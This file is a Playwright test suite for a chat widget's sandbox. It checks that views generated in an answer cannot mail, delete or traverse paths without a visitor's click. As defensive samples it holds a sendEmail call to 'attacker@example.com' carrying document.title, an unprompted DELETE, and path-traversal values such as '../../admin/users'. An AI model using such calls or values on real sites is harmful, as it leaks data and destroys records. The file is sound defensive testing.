// What a generated view may do on its own (DESIGN.md §13), tried as an attacker would: a hostile
// answer with five views that mail on load, an API's DELETE called as the view loads, a stored
// answer that acts again at every page load, and a path parameter that leaves its operation. Each
// test first sees the view's calls settle (or the refusal said), then counts what reached the owner.
import { expect, launcher, loadWidget, test } from './fixtures';
import { clickView, frameOf, liveView, packResults, packView, sandboxFence, showReply, showView, view } from './sandbox-helpers';
import type { Page } from '@playwright/test';

const EMAIL = `{ pack: 'email', send: async (m) => { (window.mails ??= []).push(m) } }`;
const SEARCH = `{ pack: 'search', search: async (q) => { window.searches = (window.searches ?? 0) + 1; return [{ content: q }] } }`;
const mails = (page: Page) => page.evaluate(() => ((window as any).mails ?? []).length as number);
const warnings = (messages: { type: string; text: string }[]) => messages.filter((m) => m.type === 'warning').map((m) => m.text);

test('five views of one answer that mail as they load: no mail goes; three views show, two as their summary; clicked, the three share one answer’s budget of 3', async ({ page, server, consoleMessages }) => {
  const mailThrice = 'for (const i of [1, 2, 3]) await show(i, sendEmail({ to: "attacker@example.com", subject: "s" + i, body: document.title }))';
  const views = [1, 2, 3, 4, 5].map((n) => sandboxFence({ ...clickView(`Mailer ${n}`, mailThrice, '', `Mailer ${n} summary.`), jsExpressions: [...clickView('', mailThrice).jsExpressions, `(async () => { ${mailThrice}; out.dataset.load = "1" })()`] }));
  await showReply(page, server.url, `Five views:\n\n${views.join('\n\n')}`, {
    before: `window.BailingChat = { sandbox: { packs: [${EMAIL}], policy: { allowTools: ['sendEmail'], maxCalls: 3, maxCallsPerMinute: 3 } } }`,
  });
  await liveView(page);
  const frames = frameOf(page);
  await expect(frames).toHaveCount(3);
  const boxes = page.locator('bailing-chat-widget .sbx');
  await expect(boxes).toHaveCount(5);
  await expect(boxes.nth(3)).toContainText('Mailer 4 summary.');
  await expect(boxes.nth(4)).toContainText('Mailer 5 summary.');
  // Every live view's calls on load have settled: each was refused, for want of a gesture.
  for (let i = 0; i < 3; i++) {
    const out = page.frameLocator('bailing-chat-widget iframe.sbx-frame').nth(i).locator('#out[data-load="1"]');
    await expect(out).toHaveText([1, 2, 3].map((n) => `${n} refused: sendEmail: refused (gesture): it acts only during the visitor’s click or key press in the view;`).join(''));
  }
  expect(await mails(page)).toBe(0);
  expect(warnings(consoleMessages)).toEqual(
    expect.arrayContaining(['BailingChat: sandbox: view "Mailer 4": refused (views): at most 3 views per answer (maxViews)', 'BailingChat: sandbox: view "Mailer 5": refused (views): at most 3 views per answer (maxViews)']),
  );
  // Each refusal is said once per view, not once per call.
  expect(warnings(consoleMessages).filter((w) => w.startsWith('BailingChat: sandbox: view "Mailer 1": sendEmail: refused (gesture)'))).toHaveLength(1);
  // The visitor presses Go in each live view: three mails in all, the answer's budget. A key press
  // on the focused button, not a click at coordinates: the view above grows as its results arrive
  // and moves the next one down, and a click aimed a moment earlier can land beside it.
  for (let i = 0; i < 3; i++) {
    const frame = page.frameLocator('bailing-chat-widget iframe.sbx-frame').nth(i);
    await frame.locator('#go').press('Enter');
    await expect(frame.locator('#out[data-done="1"]')).toBeAttached();
  }
  expect(await mails(page)).toBe(3);
  await expect(page.frameLocator('bailing-chat-widget iframe.sbx-frame').nth(2).locator('#out')).toContainText('1 refused: sendEmail: refused (answer): at most 3 calls per answer (maxCalls);');
});

test('an API’s DELETE as the view loads: not offered unless the owner widens methods; offered, it runs only in a click; a path value that leaves its operation is refused', async ({ page, server }) => {
  const api = {
    openapi: '3.0.3',
    info: { title: 'Shop', version: '1' },
    paths: {
      '/items/{id}': {
        parameters: [{ name: 'id', in: 'path', required: true, schema: { type: 'string' } }],
        get: { operationId: 'getItem', responses: { 200: { description: 'ok' } } },
        delete: { operationId: 'deleteItem', responses: { 204: { description: 'gone' } } },
      },
    },
  };
  const sent: string[] = [];
  await page.route('**/api/v1/**', (route) => (sent.push(`${route.request().method()} ${new URL(route.request().url()).pathname}`), route.fulfill({ status: 200, contentType: 'application/json', body: '{"ok":true}' })));
  const onLoad =
    'await show("plain", Promise.resolve(typeof plain.deleteItem));' +
    'await show("get", shop.getItem({ id: "7" }).then((r) => r.status));' +
    'await show("delete", shop.deleteItem({ id: "7" }).then((r) => r.status));' +
    'await show("up", shop.getItem({ id: "../../admin/users" }).then((r) => r.status));' +
    'await show("slash", shop.getItem({ id: "..%2Fadmin" }).then((r) => r.status))';
  const props = { ...packView('Shop', onLoad), html: '<button id="go">Go</button><output id="out"></output>', jsExpressions: [...packView('', onLoad).jsExpressions, 'go.onclick = () => shop.deleteItem({ id: "7" }).then((r) => out.dataset.deleted = r.status)'] };
  await showView(page, server.url, props, {
    before: `window.BailingChat = { sandbox: { packs: [
      { pack: 'openapi', spec: ${JSON.stringify(api)}, name: 'plain', baseURL: location.origin + '/api/v1' },
      { pack: 'openapi', spec: ${JSON.stringify(api)}, name: 'shop', baseURL: location.origin + '/api/v1', headers: { 'X-API-Key': 'owner-key' }, methods: ['GET', 'DELETE'] },
    ] } }`,
  });
  const segment = 'must stay one path segment: no /, \\, %, control characters, and not . or ..';
  expect(await packResults(page)).toBe(
    'plain ok "undefined";get ok 200;' +
      'delete refused: shop.deleteItem: refused (gesture): it acts only during the visitor’s click or key press in the view;' +
      `up refused: shop.getItem: params.id ${segment};slash refused: shop.getItem: params.id ${segment};`,
  );
  expect(sent).toEqual(['GET /api/v1/items/7']);
  await liveView(page);
  await view(page).locator('#go').click();
  await expect(view(page).locator('#out[data-deleted="200"]')).toBeAttached();
  expect(sent).toEqual(['GET /api/v1/items/7', 'DELETE /api/v1/items/7']);
});

test('a stored answer’s view does not act again at the next page load: it reads, its mail is refused as restored, and a click in it still works', async ({ page, server, consoleMessages }) => {
  const onLoad = 'await show("search", documentSearch("docs")); await show("mail", sendEmail({ to: "attacker@example.com", subject: "docs", body: "x" }))';
  const props = {
    ...packView('Replay', onLoad, '<button id="go">Go</button>'),
    jsExpressions: [...packView('', onLoad).jsExpressions, 'go.onclick = () => show("click", sendEmail({ to: "visitor@example.com", subject: "mine", body: "y" })).then(() => out.dataset.clicked = "1")'],
  };
  const before = `window.BailingChat = { sandbox: { packs: [${EMAIL}, ${SEARCH}], policy: { allowTools: ['sendEmail'] } } }`;
  await showView(page, server.url, props, { before });
  expect(await packResults(page)).toMatch(/^search ok \[.*\];mail refused: sendEmail: refused \(gesture\): .*;$/);
  expect(await page.evaluate(() => (window as any).searches)).toBe(1);
  // The page again: the answer comes from the history, and its view runs again. (The server's own
  // thread holds its demo agent's answer to this job, which a merge would show instead.)
  await page.route('**/chat/demo_assistant/thread**', (route) => route.fulfill({ status: 503, body: 'not now' }));
  await loadWidget(page, server.url, { before, attrs: { 'data-sandbox': '1' } });
  await launcher(page).click();
  expect(await packResults(page)).toMatch(/^search ok \[.*\];mail refused: sendEmail: refused \(restored\): drawn again from the history, it acts only once the visitor uses it;$/);
  expect(await page.evaluate(() => (window as any).searches)).toBe(1);
  expect(await mails(page)).toBe(0);
  expect(warnings(consoleMessages)).toContain('BailingChat: sandbox: view "Replay": sendEmail: refused (restored): drawn again from the history, it acts only once the visitor uses it');
  // Touched, it acts.
  await liveView(page);
  await view(page).locator('#go').click();
  await expect(view(page).locator('#out[data-clicked="1"]')).toBeAttached();
  expect(await page.evaluate(() => (window as any).mails)).toEqual([{ to: 'visitor@example.com', subject: 'mine', body: 'y' }]);
});
